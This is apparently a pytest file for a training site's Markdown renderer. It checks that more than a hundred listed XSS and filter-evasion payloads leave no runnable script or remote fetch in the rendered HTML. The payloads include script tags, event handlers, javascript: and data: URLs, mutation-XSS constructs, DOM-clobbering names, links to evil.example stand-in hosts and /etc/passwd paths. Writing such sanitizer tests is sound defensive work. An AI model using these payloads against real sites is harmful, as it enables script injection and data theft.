# SPDX-License-Identifier: EUPL-1.2
"""Known ways to smuggle a script into a page: none leaves anything that a browser would run or fetch.

The payloads follow the public collections (OWASP's cheat sheet on filter evasion, the Markdown ones of bug
hunters) in kind, not in wording. Each is tried bare and inside each construct of a lesson.
"""

import re

import lxml.html
import pytest

from atlas_training.courses.markdown import Source, render

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    '<img """><script>alert(1)</script>">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)//>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<a onmouseover=alert(1)>x</a>",
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<textarea></textarea><script>alert(1)</script>",
    # Markup that changes its meaning when it is parsed again: foreign elements, raw text, templates.
    "<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    '<title><a title="</title><script>alert(1)</script>">',
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,x#y /><set attributeName=href to=javascript:alert(1)></svg>",
    # Attributes that fetch or act without the names everybody looks for.
    "<img srcset='//evil.example/a 1x' sizes=1>",
    "<picture><source srcset=//evil.example/a></picture>",
    "<input autofocus onfocus=alert(1) type=image src=//evil.example/x>",
    "<a ping=//evil.example href=https://evil.example target=_blank>x</a>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>",
    "<link rel=preload as=image imagesrcset=//evil.example/x>",
    "<table background=//evil.example/x><td background=javascript:alert(1)>",
    "<bgsound src=//evil.example/x><frameset onload=alert(1)><layer src=x>",
    # Names that would stand in for a page's own (clobbering).
    "## cookie {#cookie}\n\n## location\n\n## __proto__\n\n## constructor\n\n## body",
    "<form id=document><input name=cookie><a id=config name=url href=javascript:alert(1)>",
    "x[^__proto__] y[^cookie]\n\n[^__proto__]: a\n[^cookie]: b",
    '[x]: javascript:alert(1) "t"\n\n[x] ![x] [__proto__] [constructor][] [toString]',
    "[`x`]: javascript:alert(1)\n\n[`x`][] [`x`] ![`x`]",
    'https://evil.example/<script>alert(1)</script> javascript:alert(1) www.evil.example/"onclick=alert(1)',
    'x@evil.example"onclick=alert(1) <x"onclick=alert(1)@evil.example>',
    "ftp://evil.example/x file:///etc/passwd",
    "[x](&Tab;javascript:alert(1))",
    "[x](java&NewLine;script&colon;alert(1))",
    "[x](&lpar;javascript:alert&lpar;1&rpar;)",
    "[x](\x00javascript:alert(1)) [x](javascript\x00:alert(1))",
    "[x](\u00a0javascript:alert(1)) [x](\u3000javascript:alert(1))",
    "[x](feed:javascript:alert(1)) [x](jar:x!/) [x](ws://evil.example)",
    "[x](https:javascript:alert(1)) [x](http://javascript:alert(1)@evil.example)",
    "\uf009<script>\uf009alert(1)</script>",
    "```\n\t</code></pre><script>\talert(1)</script>\n```",
    "1) <script>alert(1)</script>\n- <svg onload=alert(1)>\n> > - <img src=x onerror=alert(1)>",
    "/// activity | ![x](javascript:alert(1)) [x](javascript:alert(1))\n    minutes: 5\n\nx\n///",
    "/// video | ' onerror='alert(1)\n    file: ../assets/\"onerror=alert(1).mp4\n    captions: //evil.example/x.vtt\n\nx\n///",
    "/// country | <script>alert(1)</script>\n    code: IT\n\nx\n///",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    '[x](https://evil.example/"onmouseover=alert(1)//)',
    '[x](https://evil.example "t" onmouseover="alert(1)")',
    "[x](//evil.example/x)",
    "[x](/sign-out)",
    "[x](../../../../etc/passwd)",
    "[x](..%2f..%2fsign-out)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)>\n\n[x][]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](../assets/x.svg)',
    "![<script>alert(1)</script>](x)",
    "`<script>alert(1)</script>`",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    "~~~ {.x onclick=alert(1) style=color:red}\n</code></pre><script>alert(1)</script>\n~~~",
    "    <script>alert(1)</script>",
    "## x {: onclick=alert(1) }",
    "## <img src=x onerror=alert(1)>",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "x[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "> [!NOTE] <img src=x onerror=alert(1)>\n> <script>alert(1)</script>",
    "> [!<script>alert(1)</script>]\n> x",
    "- [ ] <img src=x onerror=alert(1)>",
    "term <script>\n:   <script>alert(1)</script>",
    "/// activity | <img src=x onerror=alert(1)>\n    minutes: 5\n\nx\n///",
    "/// activity | T\n    minutes: 5\n    attrs: {onclick: alert(1)}\n\nx\n///",
    '/// country | T\n    code: IT" onclick=alert(1)\n\nx\n///',
    "/// download | T\n    file: javascript:alert(1)\n\n///",
    "/// video | T\n    file: javascript:alert(1)\n    captions: data:text/vtt,x\n\nx\n///",
    '/// audio | " onplay="alert(1)\n    file: //evil.example/x.mp3\n\nx\n///',
    "/// try | <script>alert(1)</script>\n\n- [ ] <img src=x onerror=alert(1)>\n  > [x](javascript:alert(1))\n- [x] b\n///",
    "/// reveal | <svg onload=alert(1)>\n\n<script>alert(1)</script>\n///",
    "/// html | script\n\nalert(1)\n///",
    "\x02wzxhzdk:0\x03",
    "\x02amp\x03\x02klzzwxh:0001\x03",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)",
)
HOLDERS = (
    "{}",
    "> {}",
    "- {}",
    "x {} y",
    "> [!TIP]\n> {}",
    "/// reveal | T\n\n{}\n\n///",
    "x[^1]\n\n[^1]: {}",
)
TAGS = re.compile(
    r"a|audio|blockquote|br|code|d[dlt]|del|details|div|em|h[2-6r]|img|input|li|ol|p|pre|section|span|strong|summary|sup"
    r"|table|tbody|t[dhr]|thead|track|ul|video"
)
ATTRIBUTES = re.compile(
    r"alt|aria-label|aria-labelledby|checked|class|controls|data-country|data-label|default|dir|disabled|download|href|id"
    r"|kind|label|lang|loading|preload|rel|role|scope|src|srclang|start|tabindex|type|value"
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_or_is_fetched_from_elsewhere_comes_out(payload: str) -> None:
    for holder in HOLDERS:
        for for_trainers in (False, True):
            html = render(Source(holder.format(payload), "en", for_trainers=for_trainers)).html
            _check(html)


def _check(html: str) -> None:
    for element in lxml.html.fragment_fromstring(html, create_parent="div").iter():
        assert TAGS.fullmatch(element.tag), html
        assert all(ATTRIBUTES.fullmatch(name) for name in element.attrib), html
        assert not (element.get("src") or "").strip(), html
        href = element.get("href")
        assert href is None or re.match(r"(https?://|mailto:|tel:|#c-)", href), html
        assert (element.get("id") or "c-").startswith("c-"), html
